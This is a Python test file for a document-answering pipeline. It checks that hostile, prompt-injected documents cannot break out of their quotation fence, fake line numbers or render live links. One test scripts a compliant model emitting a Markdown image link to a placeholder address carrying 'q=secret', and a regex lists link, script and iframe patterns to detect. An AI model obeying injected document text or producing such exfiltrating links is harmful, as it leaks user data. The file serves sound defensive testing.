"""Hostile documents against the whole pipeline, and against the page."""

import re
from contextlib import aclosing

import pytest
import pytest_asyncio
from fakes import ShelfLibrary
from hostile_documents import ADDRESS, FACT, HOSTILE, MARKER, QUESTION

from rig.queue_model import QueueModel
from xnai.answering.events import Done, Question, Token
from xnai.answering.pipeline import Pipeline
from xnai.answering.prompt import fence
from xnai.answering.reading.lines import make_sheet
from xnai.llm.protocol import Finished, TokenText
from xnai.retrieval.embedding.onnx import OnnxEmbedder
from xnai.retrieval.late_interaction import rerank
from xnai.retrieval.search import Found
from xnai.settings import Settings
from xnai.types import PageText, Passage, Scope, Usage
from xnai.ui import markdown
from xnai.ui.live_links import LinkBreaker
from xnai.ui.summary_line import passage_list

pytestmark = pytest.mark.asyncio(loop_scope="module")

# What Markdown would make a link, an image or HTML of; a backslash before it takes its power.
_LIVE = re.compile(
    r"!\[[^\]]*\]\(|\]\(\s*http|\]\[|(?<!\\)<(?:img|script|iframe|form|svg|a)\b|https?://",
    re.IGNORECASE,
)


class OneDocument(ShelfLibrary):
    """A library with one document, whose paragraphs are ranked by the real embedder."""

    def __init__(self, embedder: OnnxEmbedder, text: str) -> None:
        super().__init__([Passage("d", "log.txt", 1, 0, len(text), text, 0.5, 1)])
        self.embedder = embedder

    async def find(self, question: str, scope: Scope, limit: int) -> Found:
        asked = await self.embedder.embed_question(question)
        return Found(await rerank(self.embedder, asked, self.shelf, {}))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def embedder(tmp_path_factory):
    embedder = OnnxEmbedder(Settings(data_dir=tmp_path_factory.mktemp("data")))
    await embedder.start()
    yield embedder
    await embedder.close()


async def answered(embedder, text: str, model: QueueModel) -> tuple[str, Done]:
    pipeline = Pipeline(OneDocument(embedder, text), model)
    asked = Question(QUESTION, "r", "u", scope=Scope("me"))
    shown, done = "", None
    async with aclosing(pipeline.answer(asked)) as events:
        async for event in events:
            if isinstance(event, Token):
                shown += event.text
            elif isinstance(event, Done):
                done = event
    assert done is not None
    assert [text[c.start : c.end] for c in done.citations] == [c.quote for c in done.citations]
    return shown, done


def is_live(text: str, done: Done) -> bool:
    breaker = LinkBreaker()
    shown = breaker.feed(text) + breaker.finish()
    return bool(_LIVE.search(shown + markdown.sources(done.citations)))


@pytest.mark.parametrize("number", range(len(HOSTILE)))
async def test_what_is_quoted_of_a_hostile_document_makes_nothing_live(embedder, number):
    model = QueueModel(parameters=135_000_000)

    text, done = await answered(embedder, HOSTILE[number], model)

    assert (done.outcome, model.asked) == ("quoted", [])
    assert "1987" in text
    assert not is_live(text, done)


@pytest.mark.parametrize("number", range(len(HOSTILE)))
async def test_a_model_that_obeys_shows_nothing_live_and_cites_what_stands_there(embedder, number):
    """The worst that a model can do: quote all, and say what the document orders."""
    obeyed = f"Source: [1] [2] [3] [4]\nAnswer: {MARKER}. See ![x]({ADDRESS}?q=secret) [9]."
    model = QueueModel([TokenText(obeyed), Finished("stop", Usage())])

    text, done = await answered(embedder, HOSTILE[number], model)

    assert not is_live(text, done)
    assert {int(mark) for mark in re.findall(r"\[(\d+)\]", text)} <= {
        citation.index for citation in done.citations
    }


@pytest.mark.parametrize("number", range(len(HOSTILE)))
async def test_no_document_poses_as_a_header_or_as_the_number_of_a_line(number):
    sheet = make_sheet([PageText("d", "log.txt", 1, 1, HOSTILE[number])])

    header, *lines = sheet.text.splitlines()

    assert header == "=== File: log.txt ==="
    for count, line in enumerate(lines, 1):
        assert line.startswith(f"[{count}] ")
        assert not re.search(r"\[[\d\s,;-]+\]", line.removeprefix(f"[{count}] "))


@pytest.mark.parametrize("number", range(len(HOSTILE)))
async def test_no_document_closes_its_quotation_or_makes_anything_live_in_the_page(number):
    text = HOSTILE[number]
    passage = Passage("d", "log.txt", 1, 0, len(text), text, 0.5, 1, evidence=(0, len(text)))

    fenced = fence(1, passage)
    listed = passage_list([passage])

    assert fenced.casefold().count("</passage") == 1
    assert fenced.casefold().count("<passage") == 1
    assert _LIVE.search(listed) is None
    assert ADDRESS not in listed


async def test_there_are_enough_of_them_and_each_has_the_honest_fact():
    assert len(set(HOSTILE)) >= 40
    assert all(FACT in text for text in HOSTILE)
